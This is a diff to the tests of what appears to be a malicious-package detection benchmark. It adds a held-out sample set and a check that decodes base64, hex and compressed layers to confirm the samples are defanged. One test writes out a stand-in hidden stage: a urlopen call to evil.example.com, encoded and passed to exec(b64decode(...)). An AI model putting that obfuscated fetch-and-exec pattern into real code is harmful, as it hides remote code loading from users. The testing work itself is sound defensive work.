@@ -5,18 +5,22 @@ No recall target is asserted here: the figures are measured by `benchmarks/quali
 
 from __future__ import annotations
 
+import ast
 import base64
+import gzip
 import hashlib
 import io
 import ipaddress
 import re
 import tarfile
 import zipfile
+import zlib
 from pathlib import Path
 
 import pytest
 
 from benchmarks.malicious_set import (
+    HOLDOUT_DIR,
     LOOKALIKES_DIR,
     THREAT_TYPES,
     Sample,
@@ -28,6 +32,7 @@ from benchmarks.quality import Outcome, format_report, main, summarize
 
 SAMPLES = load_samples()
 LOOKALIKES = load_samples(LOOKALIKES_DIR)
+HOLDOUT = load_samples(HOLDOUT_DIR)
 
 # Endpoints kept as real hosts because their kind is what a detector must see; the webhook ids,
 # bot tokens and API keys in them are placeholders.
@@ -51,6 +56,21 @@ def test_the_set_is_large_and_covers_every_threat_type_several_times() -> None:
     assert len({(s.name, s.version) for s in SAMPLES}) == len(SAMPLES)
 
 
+def test_the_held_out_set_covers_every_threat_type_and_is_disjoint_from_development() -> None:
+    assert len(HOLDOUT) >= 40
+    for threat in THREAT_TYPES:
+        assert sum(threat in s.threats for s in HOLDOUT) >= 3, threat
+    assert all(s.threats for s in HOLDOUT)
+    assert len({(s.name, s.version) for s in HOLDOUT}) == len(HOLDOUT)
+    # A held-out sample is a different package, not a copy of a development sample.
+    assert not {s.id for s in HOLDOUT} & {s.id for s in SAMPLES}
+    assert not {s.name for s in HOLDOUT} & {s.name for s in SAMPLES}
+    development_files = {c for s in SAMPLES for c in s.files.values()}
+    for sample in HOLDOUT:
+        code = {c for c in sample.files.values() if len(c) > 40}  # not empty __init__.py
+        assert not code & development_files, sample.id
+
+
 def test_benign_look_alikes_expect_no_threat_and_name_what_they_resemble() -> None:
     assert len(LOOKALIKES) >= 10
     for sample in LOOKALIKES:
@@ -58,7 +78,8 @@ def test_benign_look_alikes_expect_no_threat_and_name_what_they_resemble() -> No
         assert sample.looks_like and set(sample.looks_like) <= set(THREAT_TYPES)
 
 
-@pytest.mark.parametrize("sample", SAMPLES + LOOKALIKES, ids=_ids(SAMPLES + LOOKALIKES))
+@pytest.mark.parametrize("sample", SAMPLES + LOOKALIKES + HOLDOUT,
+                         ids=_ids(SAMPLES + LOOKALIKES + HOLDOUT))
 def test_sample_archives_are_well_formed(sample: Sample) -> None:
     archives = dict(build_archives(sample))
     assert len(archives) == len(sample.artifacts)
@@ -68,6 +89,15 @@ def test_sample_archives_are_well_formed(sample: Sample) -> None:
         else:
             assert filename.endswith(".tar.gz")
             _check_sdist(sample, data)
+
+
+@pytest.mark.parametrize("sample", SAMPLES + LOOKALIKES + HOLDOUT,
+                         ids=_ids(SAMPLES + LOOKALIKES + HOLDOUT))
+def test_sample_python_files_parse(sample: Sample) -> None:
+    """A sample with a syntax error measures nothing (parsing is not running it)."""
+    for path, content in sample.files.items():
+        if path.endswith(".py"):
+            ast.parse(content, filename=f"{sample.id}/{path}")
 
 
 def _check_sdist(sample: Sample, data: bytes) -> None:
@@ -98,20 +128,69 @@ def _check_wheel(sample: Sample, data: bytes) -> None:
         assert installed <= names
 
 
-@pytest.mark.parametrize("sample", SAMPLES, ids=_ids(SAMPLES))
+@pytest.mark.parametrize("sample", SAMPLES + HOLDOUT, ids=_ids(SAMPLES + HOLDOUT))
 def test_sample_is_defanged(sample: Sample) -> None:
     """Every URL or connect target points at a reserved name, a documentation IP, or a service
     whose kind matters (with placeholder credentials)."""
-    for path, content in sample.files.items():
-        text = content.decode("utf-8", "replace")
-        for host in re.findall(r"https?://([A-Za-z0-9.-]+)", text):
-            assert _harmless_host(host), f"{path}: {host}"
-        for address in re.findall(r"\b(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})\b", text):
-            ip = ipaddress.ip_address(address)
-            assert ip.is_unspecified or ip == _METADATA_IP or any(
-                ip in n for n in _DOCUMENTATION_NETS), address
-        for token in re.findall(r"discord\.com/api/webhooks/([^\"']+)", text):
-            assert "defanged" in token, token
+    for path, stored in sample.files.items():
+        # A gzipped resource is read as its text.
+        content = gzip.decompress(stored) if stored.startswith(b"\x1f\x8b") else stored
+        joined = re.sub(rb"[\"']\s*\n\s*[\"']", b"", content)  # "chunk" "chunk" literals
+        for text in (content.decode("utf-8", "replace"), *_decoded_layers(joined)):
+            _check_defanged_text(path, text)
+
+
+def _check_defanged_text(path: str, text: str) -> None:
+    for host in re.findall(r"https?://([A-Za-z0-9.-]+)", text):
+        assert _harmless_host(host), f"{path}: {host}"
+    for address in re.findall(r"\b(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})\b", text):
+        ip = ipaddress.ip_address(address)
+        assert ip.is_unspecified or ip == _METADATA_IP or any(
+            ip in n for n in _DOCUMENTATION_NETS), address
+    for token in re.findall(r"discord\.com/api/webhooks/([^\"']+)", text):
+        assert "defanged" in token, token
+
+
+_ENCODED = re.compile(rb"[A-Za-z0-9+/=_-]{40,}")
+
+
+def _decoded_layers(content: bytes, depth: int = 3) -> list[str]:
+    """Text hidden in long base64/base32/hex literals (and zlib/gzip inside), decoded up to
+    `depth` layers: an encoded stage must be defanged too. Decoding is not running."""
+    found: list[str] = []
+    if depth == 0:
+        return found
+    for token in _ENCODED.findall(content):
+        for decode in (base64.b64decode, base64.b32decode, _from_hex):
+            try:
+                raw = decode(token)
+            except ValueError:
+                continue
+            for unpack in (lambda b: b, zlib.decompress, gzip.decompress):
+                try:
+                    data = unpack(raw)
+                except (OSError, EOFError, zlib.error):
+                    continue
+                text = data.decode("utf-8", "replace")
+                if sum(c.isprintable() or c in "\n\t" for c in text) > 0.95 * len(text):
+                    found.append(text)
+                    found += _decoded_layers(data, depth - 1)
+    return found
+
+
+def test_defanging_check_sees_through_encoded_stages() -> None:
+    stage = b'urlopen("https://evil.example.com/x")'
+    hidden = base64.b64encode(zlib.compress(stage)).decode()
+    chunked = '"' + '"\n    "'.join(hidden[i:i + 16] for i in range(0, len(hidden), 16)) + '"'
+    for content in (f"exec(b64decode('{hidden}'))".encode(), chunked.encode()):
+        joined = re.sub(rb"[\"']\s*\n\s*[\"']", b"", content)
+        assert any("evil.example.com" in text for text in _decoded_layers(joined))
+    with pytest.raises(AssertionError):
+        _check_defanged_text("x.py", stage.decode())
+
+
+def _from_hex(token: bytes) -> bytes:
+    return bytes.fromhex(token.decode())
 
 
 def _harmless_host(host: str) -> bool:
@@ -183,6 +262,20 @@ def test_malicious_only_mode_runs_on_three_samples(capsys: pytest.CaptureFixture
     listed = [s for s in chosen if f"`{s}`" in misses]
     blocked = int(row.split("|")[3])
     assert len(listed) == 3 - blocked  # every sample not blocked is named as a miss
+
+
+def test_holdout_mode_runs_the_held_out_set_only(capsys: pytest.CaptureFixture[str]) -> None:
+    chosen = ["socket-recv-exec-thread", "xdg-autostart-desktop"]
+    arguments = ["--holdout", "--no-save", "--jobs", "1"]
+    for sample_id in chosen:
+        arguments += ["--only", sample_id]
+    assert main(arguments) == 0
+    table = capsys.readouterr().out
+    assert "held-out set" in table.splitlines()[0]
+    row = next(line for line in table.splitlines() if line.startswith("| malicious samples"))
+    assert row.split("|")[2].strip() == "2"
+    assert "| benign look-alikes, added (offline) | not run |" in table
+    assert "| popular releases, added | not run |" in table
 
 
 def test_benign_set_choice_skips_pre_releases_and_reads_archive_listings() -> None:
